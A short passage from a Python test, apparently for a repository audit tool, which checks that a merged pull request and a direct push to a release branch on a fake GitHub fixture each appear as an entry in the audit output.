    repo.push("3.x", [pr.merge_commit_sha], pusher="dave")  # a release branch, from main
    direct = repo.push("3.x", [{"message": "fix", "files": {"src/r.py": "r\n"}}], pusher="dave")
    assert set(by_key(await audit_json(fake_github))) == {
        f"pr-{pr.number}",
        f"push-3.x-{direct.after}",
    }
